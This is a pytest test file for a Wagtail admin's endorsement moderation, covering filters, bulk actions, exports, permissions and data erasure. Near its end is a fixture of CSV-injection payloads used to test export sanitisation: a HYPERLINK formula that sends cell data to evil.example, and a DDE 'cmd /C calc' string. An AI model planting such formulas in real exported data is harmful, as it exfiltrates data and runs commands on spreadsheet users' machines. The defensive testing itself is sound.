"""Moderation as staff do it in the Wagtail admin: listing, filters, actions, history, exports, dashboard."""

import csv
import io
import re

import pytest
from django.contrib.auth.models import Group, Permission
from django.core import mail
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from campaign.endorsements.models import Endorsement

from ..factories import make_endorsement

pytestmark = pytest.mark.django_db
LISTING = "/admin/snippets/campaign/endorsement/"


def test_the_listing_filters_by_status_and_searches(editor_client):
    make_endorsement("Lyon")
    make_endorsement("Nantes", status="approved", country="BE")
    pending = editor_client.get(LISTING, {"status": "pending_review"}).content.decode()
    assert "Lyon" in pending and "Nantes" not in pending
    by_country = editor_client.get(LISTING, {"country": "BE"}).content.decode()
    assert "Nantes" in by_country and "Lyon" not in by_country
    assert "Lyon" in editor_client.get(LISTING, {"q": "lyon"}).content.decode()


def test_approving_and_rejecting_in_bulk_with_a_reason(moderate):
    lyon, nantes, lille = make_endorsement("Lyon"), make_endorsement("Nantes"), make_endorsement("Lille")
    assert moderate("approve_endorsement", [lyon, nantes]).status_code == 302
    moderate("reject_endorsement", [lille], reason="No mandate from the city council.")
    statuses = dict(Endorsement.objects.values_list("institution_name", "status"))
    assert statuses == {"Lyon": "approved", "Nantes": "approved", "Lille": "rejected"}
    rejection = next(message for message in mail.outbox if message.to == ["lille@example.org"])
    assert "No mandate from the city council." in rejection.body and "Lille" in rejection.body
    assert "No hemos podido publicar" in rejection.body
    log = ModelLogEntry.objects.filter(object_id=str(lille.pk), action="campaign.endorsement.reject").get()
    assert log.user.username == "editor" and log.data["reason"] == "No mandate from the city council."


def test_an_action_leaves_endorsements_in_another_status_alone(moderate):
    unconfirmed = make_endorsement("Lyon", status="unconfirmed")
    moderate("approve_endorsement", [unconfirmed])
    assert Endorsement.objects.get().status == "unconfirmed"


def test_a_row_offers_the_actions_that_apply(editor_client):
    endorsement = make_endorsement("Lyon")
    page = editor_client.get(LISTING).content.decode()
    assert f"approve_endorsement/?id={endorsement.pk}" in page and f"reject_endorsement/?id={endorsement.pk}" in page
    confirmation = editor_client.get(f"/admin/bulk/campaign/endorsement/approve_endorsement/?id={endorsement.pk}")
    assert confirmation.status_code == 200 and "Lyon" in confirmation.content.decode()


def test_the_map_position_is_editable(editor_client):
    endorsement = make_endorsement("Lyon")
    form = editor_client.get(f"{LISTING}edit/{endorsement.pk}/").content.decode()
    assert 'name="latitude"' in form and 'name="longitude"' in form


def test_csv_and_xlsx_exports_follow_the_current_filter(editor_client):
    make_endorsement("Lyon")
    make_endorsement("Nantes", status="approved")
    csv = editor_client.get(LISTING, {"status": "approved", "export": "csv"})
    text = b"".join(csv.streaming_content).decode() if csv.streaming else csv.content.decode()
    assert "Nantes" in text and "Lyon" not in text and "nantes@example.org" in text
    xlsx = editor_client.get(LISTING, {"status": "approved", "export": "xlsx"})
    content = b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content
    rows = list(load_workbook(io.BytesIO(content)).active.values)
    assert [row[1] for row in rows[1:]] == ["Nantes"]


def test_the_dashboard_counts_pending_reviews_first(editor_client):
    make_endorsement("Lyon")
    make_endorsement("Nantes")
    make_endorsement("Lille", status="approved")
    page = editor_client.get("/admin/").content.decode()
    panel = page[page.index('id="endorsements-content"') :]
    counts = re.findall(r"\?status=(\w+)\">[^<]+</a></td>\s*<td>(\d+)</td>", panel)
    assert counts[:3] == [("pending_review", "2"), ("unconfirmed", "0"), ("approved", "1")]
    assert panel.count('title="20') == 12, "one bar per month of the last year"


def test_users_without_endorsement_permissions_see_none_of_it(client, django_user_model):
    make_endorsement("Lyon")
    editor = django_user_model.objects.create_user("writer", password="pw")
    group = Group.objects.create(name="Writers")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    editor.groups.add(group)
    client.force_login(editor)
    assert LISTING not in client.get("/admin/").content.decode()
    assert client.get(LISTING).status_code in (302, 403)
    response = client.post(f"/admin/bulk/campaign/endorsement/approve_endorsement/?id={Endorsement.objects.get().pk}")
    assert Endorsement.objects.get().status == "pending_review"
    assert response.status_code in (200, 302, 403)


def test_erasing_keeps_an_approved_public_record_and_drops_contact_data(moderate, graphql):
    approved, pending = make_endorsement("Lyon", status="approved"), make_endorsement("Nantes")
    approved.approved_at = approved.submitted_at
    approved.save()
    moderate("erase_endorsement_personal_data", [approved, pending])
    approved.refresh_from_db()
    pending.refresh_from_db()
    assert (approved.email, approved.phone, approved.signatory_name) == ("", "", "Signer")
    assert (pending.email, pending.signatory_name) == ("", "—")
    names = graphql("{ endorsements { items { institutionName signatoryName } } }")["data"]["endorsements"]["items"]
    assert names == [{"institutionName": "Lyon", "signatoryName": "Signer"}]


def test_the_inspect_view_shows_the_record_but_not_the_token_hash(editor_client):
    endorsement = make_endorsement("Lyon", token_hash="f" * 64)
    page = editor_client.get(f"{LISTING}inspect/{endorsement.pk}/").content.decode()
    assert "lyon@example.org" in page and "f" * 64 not in page


FORMULAS = {
    "institution_name": '=HYPERLINK("https://evil.example/?"&A1,"Lyon")',
    "signatory_name": "+SUM(1,1)",
    "signatory_title": "-2+3",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "\t=1+1",
    "statement": "\r=1+1",
}


def test_no_csv_cell_starts_a_formula(editor_client, moderate):
    """OWASP's CSV injection: each cell an endorser typed that starts with = + - @ tab or carriage return comes out
    prefixed with an apostrophe, in the endorsements' export and in the site history's (whose object labels carry
    the institution's name); XLSX already writes them as text."""
    endorsement = make_endorsement("Lyon", **FORMULAS)
    moderate("approve_endorsement", [endorsement])
    for url, params in ((LISTING, {"export": "csv"}), ("/admin/reports/site-history/", {"export": "csv"})):
        response = editor_client.get(url, params)
        assert response.status_code == 200, url
        text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))] == [], url
        assert any(cell.startswith("'=HYPERLINK(") for cell in cells), url
    exported = next(csv.DictReader(io.StringIO(b"".join(editor_client.get(LISTING, {"export": "csv"})).decode())))
    assert sorted(value for value in exported.values() if value.startswith("'")) == sorted(
        "'" + value for value in FORMULAS.values()
    )
